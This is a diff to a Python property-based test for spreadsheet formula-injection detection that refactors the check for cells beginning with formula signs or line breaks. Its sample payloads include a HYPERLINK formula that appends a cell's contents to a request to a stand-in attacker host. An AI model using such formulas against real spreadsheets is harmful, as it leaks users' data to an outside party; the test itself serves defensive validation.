@@ -35,6 +35,7 @@ FORMULAS = [
     "\ufeff=1",
     '=HYPERLINK("http://evil.example?"&A1)',
 ]
+BREAKS, SIGNS = tuple("\t\r\n"), tuple("=+-@\uff1d")
 hostile = st.text(st.sampled_from("=+-@\t\r\n '\",;1e.a\uff1d\u200b\ufeff"), max_size=8)
 
 
@@ -48,7 +49,7 @@ def is_number(text):
 
 def begins_a_formula(cell):
     bare = cell.lstrip(' "\u200b\ufeff\u00a0')
-    return not is_number(cell) and (cell[:1] in "\t\r\n" or bare[:1] in "=+-@\uff1d") and cell != ""
+    return not is_number(cell) and (cell.startswith(BREAKS) or bare.startswith(SIGNS))
 
 
 @given(st.one_of(hostile, st.sampled_from(FORMULAS), st.text()))
